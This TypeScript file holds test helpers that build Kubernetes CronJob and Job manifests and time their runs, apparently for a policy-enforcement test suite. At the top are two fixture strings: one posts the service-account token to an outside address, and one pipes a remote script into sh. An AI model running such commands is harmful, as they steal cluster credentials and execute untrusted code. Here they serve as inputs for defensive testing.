import { setTimeout as sleep } from 'node:timers/promises';
import type { Stage } from '../stage.ts';

/** Addresses are documentation's, and nodes run no command: these texts are only read. */
export const TO_OUTSIDE =
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -d @- http://203.0.113.66/t';
export const FETCHED = 'curl -s http://203.0.113.66/x.sh | sh';

type Fields = Readonly<Record<string, unknown>>;

const podOf = (image: string, command: readonly string[], spec: Fields): Fields => ({
  restartPolicy: 'Never',
  ...spec,
  containers: [{ name: 'main', image, command }],
});

/** What a team of the shop runs: an image of its own, and a program of it. */
export const WORK = { image: 'registry.example.com/shop/web:4.2.0', command: ['python', 'manage.py', 'tidy'] } as const;

export interface Runs {
  readonly image: string;
  readonly command: readonly string[];
  readonly spec?: Fields;
}

export const shell = (text: string, image = 'alpine:3.22'): Runs => ({ image, command: ['/bin/sh', '-c', text] });

export const cronJob = (
  name: string,
  namespace: string,
  { image, command, spec = {} }: Runs,
  more: Fields = {},
): object => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name, namespace },
  spec: {
    schedule: '* * * * *',
    ...more,
    jobTemplate: { spec: { backoffLimit: 0, template: { spec: podOf(image, command, spec) } } },
  },
});

export interface Owner {
  readonly name: string;
  readonly uid: string;
  /** As the controller itself writes it. */
  readonly blocks?: boolean;
}

/** A Job; with an owner that it says is its controller. */
export const job = (name: string, namespace: string, { image, command, spec = {} }: Runs, owner?: Owner): object => ({
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: {
    name,
    namespace,
    ...(owner === undefined
      ? {}
      : {
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: owner.name,
              uid: owner.uid,
              controller: true,
              ...(owner.blocks === true ? { blockOwnerDeletion: true } : {}),
            },
          ],
        }),
  },
  spec: { backoffLimit: 0, template: { spec: podOf(image, command, spec) } },
});

const MINUTE = 60_000;

/** Waits until a minute has begun and its runs are made. */
export const nextTick = async (): Promise<void> => {
  await sleep(MINUTE - (Date.now() % MINUTE) + 4000);
};

/** The minute that comes next, as names of runs have it; waits when it is too near to act before it. */
export const nextMinute = async (): Promise<number> => {
  if (MINUTE - (Date.now() % MINUTE) < 8000) await nextTick();
  return Math.floor(Date.now() / MINUTE) + 1;
};

export const uidOf = async (stage: Stage, object: string, namespace: string): Promise<string> =>
  (await stage.kubectl('developer', `get ${object} -n ${namespace} -o jsonpath={.metadata.uid}`)).trim();
